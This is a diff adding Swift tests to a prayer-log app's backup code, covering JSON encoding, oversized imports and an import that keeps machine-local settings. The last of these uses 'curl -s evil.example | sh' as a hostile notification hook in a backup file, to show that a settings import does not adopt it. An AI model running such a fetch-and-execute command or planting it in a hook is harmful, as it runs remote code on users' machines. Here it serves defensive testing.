@@ -58,4 +58,67 @@ import Testing
         try source.backup.importData(decoded)
         #expect(try source.backup.exportData().encoded() == exported)
     }
+
+    @Test(arguments: [0, 1, 250])
+    func theFileIsWrittenInTheEncodersBytesAnEntryAtATime(_ entries: Int) throws {
+        // Given random data, and a place name with text JSON escapes
+        var random = SeededGenerator(seed: SeededGenerator.seed(default: 0xF11E) &+ UInt64(entries))
+        var data = try Self.userData(entries: entries, using: &random)
+        try data.preferences.set("Zürich \"Altstadt\" \\ / tab\there", for: .placeName)
+        // When written by PrayKit's writer, and by Foundation's encoder (the format of earlier versions)
+        let encoder = JSONEncoder()
+        encoder.outputFormatting = [.prettyPrinted, .sortedKeys, .withoutEscapingSlashes]
+        // Then the bytes are the same
+        #expect(try data.encoded() == encoder.encode(data))
+        // and the database's export, read and written an entry at a time, is its whole export
+        let test = try TestDatabase()
+        try test.backup.importData(data)
+        var pieces: [String] = []
+        try UserData.write(to: { pieces.append($0) }) { entry in try test.backup.exportData(entries: entry) }
+        #expect(Data(pieces.joined().utf8) == (try test.backup.exportData().encoded()))
+        #expect(pieces.count == entries + 2)
+    }
+
+    @Test func anImportKeepsTheStoredValuesOfTheKeptSettings() throws {
+        // Given: this machine's hook, and a backup that sets another
+        let test = try TestDatabase()
+        try test.preferences.update { preferences in
+            try preferences.set("notify-send mine", for: .notifyHook)
+            try preferences.set("isna", for: .method)
+        }
+        var theirs = Preferences()
+        try theirs.set("curl -s evil.example | sh", for: .notifyHook)
+        try theirs.set("mwl", for: .method)
+        let backup = UserData(preferences: theirs, prayerLog: [])
+        // When imported keeping the machine-local settings
+        #expect(Preferences.Key.machineLocal == [.notifyHook])
+        try test.backup.importData(backup, keeping: Set(Preferences.Key.machineLocal))
+        // Then the rest is replaced and the hook is this machine's
+        #expect(try test.preferences.preferences()[.method] == "muslim-world-league")
+        #expect(try test.preferences.preferences()[.notifyHook] == "notify-send mine")
+        // A kept setting this machine does not have is not taken from the file either
+        try test.preferences.update { $0.unset(.notifyHook) }
+        try test.backup.importData(backup, keeping: [.notifyHook])
+        #expect(try test.preferences.preferences()[.notifyHook] == nil)
+        // and a trusted import takes it.
+        try test.backup.importData(backup)
+        #expect(try test.preferences.preferences()[.notifyHook] == "curl -s evil.example | sh")
+    }
+
+    @Test func anImportOfMoreThanAMillionEntriesIsRefusedBeforeAnyWrite() throws {
+        // Given a database holding one entry
+        let test = try TestDatabase()
+        try test.prayerLog.record(.prayed, for: .fajr, on: .mockDate)
+        // When a backup of 1,000,001 entries is imported
+        let entries = try (0...1_000_000).map { index in
+            try PrayerLogEntry(
+                date: CivilDate(daysSince1970: index / 5), prayer: Prayer.obligatory[index % 5], status: .late,
+                recordedAt: TestDatabase.clock)
+        }
+        #expect { try test.backup.importData(UserData(preferences: Preferences(), prayerLog: entries)) } throws: {
+            ($0 as? StorageError)?.kind == .invalidData && "\($0)".contains("more than the 1000000")
+        }
+        // Then nothing changed
+        #expect(try test.backup.exportData().prayerLog.map(\.date) == [.mockDate])
+    }
 }
